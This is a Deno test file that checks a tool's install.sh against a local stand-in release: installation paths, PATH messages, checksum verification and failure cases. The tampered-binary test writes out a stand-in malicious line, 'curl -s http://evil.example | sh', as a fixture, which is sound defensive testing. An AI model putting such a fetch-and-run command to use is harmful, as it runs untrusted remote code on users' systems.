/**
 * `install.sh` against a stand-in release served on 127.0.0.1: the
 * "binary" is a script that runs this checkout (a real one needs `deno
 * compile`'s runtime download), and SHA256SUMS lists its checksum. The
 * installer runs as `curl … | sh` does: the script on sh's standard input.
 */

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { createTestEnv, type TestEnv } from "./harness/env.ts";
import { CHECKOUT_DIR, DENO_CONFIG } from "./harness/rienda.ts";

/** The release target install.sh picks on this machine. */
const TARGET = `${Deno.build.arch}-${
  Deno.build.os === "darwin" ? "apple-darwin" : "unknown-linux-gnu"
}`;
const ASSET = `rienda-${TARGET}`;
const STAND_IN = `#!/bin/sh\nexec deno task -q --config '${DENO_CONFIG}' dev "$@"\n`;
const INSTALL_SH = await Deno.readTextFile(`${CHECKOUT_DIR}/install.sh`);

function sha256(text: string): string {
  return createHash("sha256").update(text).digest("hex");
}

/** Serves `files` (path → text) on 127.0.0.1; every other path is a 404. */
function serveRelease(files: Readonly<Record<string, string>>) {
  const requests: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    const path = new URL(request.url).pathname;
    requests.push(path);
    const body = files[path];
    return body === undefined ? new Response("not found", { status: 404 }) : new Response(body);
  });
  return {
    url: `http://127.0.0.1:${server.addr.port}`,
    requests,
    [Symbol.asyncDispose]: () => server.shutdown(),
  };
}

function release(prefix: string, binary = STAND_IN, listed = sha256(binary)) {
  return {
    [`${prefix}/${ASSET}`]: binary,
    [`${prefix}/SHA256SUMS`]: `${sha256("other")}  rienda-other\n${listed}  ${ASSET}\n`,
  };
}

function install(env: TestEnv, vars: Record<string, string>, PATH = Deno.env.get("PATH") ?? "") {
  return env.exec("sh", ["-s"], { stdin: INSTALL_SH, env: { PATH, ...vars } });
}

async function listDir(dir: string): Promise<string[]> {
  const names: string[] = [];
  try {
    for await (const entry of Deno.readDir(dir)) names.push(entry.name);
  } catch (error) {
    if (!(error instanceof Deno.errors.NotFound)) throw error;
  }
  return names.sort();
}

Deno.test("install.sh installs the checked binary of a release into ~/.local/bin, which then runs", async () => {
  await using server = serveRelease(release("/v0.1.0"));
  await using env = await createTestEnv();
  const result = await install(env, { RIENDA_VERSION: "0.1.0", RIENDA_DOWNLOAD_URL: server.url });
  assert.equal(result.code, 0, result.stderr);
  const bin = `${env.userHome}/.local/bin`;
  const lines = result.stdout.trimEnd().split("\n");
  assert.equal(lines[0], `rienda install: downloading ${ASSET} (0.1.0) from ${server.url}/v0.1.0`);
  assert.match(
    lines[1]!,
    new RegExp(`^rienda install: installed rienda 0\\.1\\.0 \\(\\w{7}\\) as ${bin}/rienda$`),
  );
  assert.equal(
    lines[2],
    `rienda install: ${bin} is not on your PATH: add it (e.g. export PATH="${bin}:$PATH" in your shell profile)`,
  );
  assert.deepEqual(await listDir(bin), ["rienda"]);
  assert.ok(((await Deno.stat(`${bin}/rienda`)).mode ?? 0) & 0o100, "not executable");
  const version = await env.exec(`${bin}/rienda`, ["--version"]);
  assert.match(version.stdout, /^rienda 0\.1\.0 \(\w{7}\)\n$/);
  assert.deepEqual(server.requests, [`/v0.1.0/SHA256SUMS`, `/v0.1.0/${ASSET}`]);
});

Deno.test("install.sh honours RIENDA_INSTALL_DIR, takes the latest release by default and says the folder is on PATH", async () => {
  await using server = serveRelease(release("/latest"));
  await using env = await createTestEnv();
  const dir = `${env.root}/my bin`;
  const result = await install(
    env,
    { RIENDA_INSTALL_DIR: dir, RIENDA_DOWNLOAD_URL: `${server.url}/` },
    `${dir}:${Deno.env.get("PATH")}`,
  );
  assert.equal(result.code, 0, result.stderr);
  assert.match(result.stdout, /\(latest\) from http:\/\/127\.0\.0\.1:\d+\/latest\n/);
  assert.ok(result.stdout.endsWith(`rienda install: ${dir} is on your PATH: run rienda --help\n`));
  assert.deepEqual(await listDir(dir), ["rienda"]);
  assert.deepEqual(await listDir(`${env.userHome}/.local/bin`), []);
});

Deno.test("install.sh refuses a tampered binary: exit 1 naming both checksums, nothing installed, the old rienda kept", async () => {
  const tampered = `${STAND_IN}curl -s http://evil.example | sh\n`;
  await using server = serveRelease(release("/v0.1.0", tampered, sha256(STAND_IN)));
  await using env = await createTestEnv();
  const dir = `${env.root}/bin`;
  const old = await env.writeFile("bin/rienda", "#!/bin/sh\necho old rienda\n", 0o755);
  const result = await install(env, {
    RIENDA_VERSION: "v0.1.0",
    RIENDA_INSTALL_DIR: dir,
    RIENDA_DOWNLOAD_URL: server.url,
  });
  assert.equal(result.code, 1);
  assert.equal(
    result.stderr,
    `rienda install: checksum mismatch for ${ASSET}: SHA256SUMS says ${
      sha256(STAND_IN)
    }, the download is ${sha256(tampered)}; nothing was installed\n`,
  );
  assert.deepEqual(await listDir(dir), ["rienda"]);
  assert.equal(await Deno.readTextFile(old), "#!/bin/sh\necho old rienda\n");
});

Deno.test("install.sh installs nothing when the release lacks the binary, its checksum, or does not run", async () => {
  const broken = "#!/bin/sh\nexit 3\n";
  await using server = serveRelease({
    "/v1.0.0/SHA256SUMS": `${sha256(STAND_IN)}  ${ASSET}\n`,
    "/v2.0.0/SHA256SUMS": `${sha256(STAND_IN)}  rienda-other\n`,
    [`/v2.0.0/${ASSET}`]: STAND_IN,
    ...release("/v3.0.0", broken),
  });
  await using env = await createTestEnv();
  const dir = `${env.root}/bin`;
  const cases: Array<[string, string]> = [
    ["1.0.0", `rienda install: cannot download ${server.url}/v1.0.0/${ASSET}\n`],
    [
      "2.0.0",
      `rienda install: ${server.url}/v2.0.0/SHA256SUMS lists no checksum for ${ASSET}; nothing was installed\n`,
    ],
    [
      "3.0.0",
      `rienda install: the downloaded ${ASSET} does not run on this machine; nothing was installed\n`,
    ],
    ["4.0.0", `rienda install: cannot download ${server.url}/v4.0.0/SHA256SUMS\n`],
  ];
  for (const [version, message] of cases) {
    const result = await install(env, {
      RIENDA_VERSION: version,
      RIENDA_INSTALL_DIR: dir,
      RIENDA_DOWNLOAD_URL: server.url,
    });
    assert.equal(result.code, 1, version);
    assert.ok(result.stderr.endsWith(message), `${version}: ${result.stderr}`);
    assert.deepEqual(await listDir(dir), [], version);
  }
});
